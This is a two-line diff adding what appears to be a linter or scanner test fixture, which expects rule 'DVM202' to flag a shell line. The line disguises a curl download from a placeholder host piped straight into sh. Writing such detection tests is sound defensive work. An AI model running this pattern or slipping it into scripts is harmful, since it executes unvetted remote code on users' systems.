@@ -1,0 +1,2 @@
+# expect: DVM202
+set -- curl -s https://x.example.org/i.sh; "$@" | sh
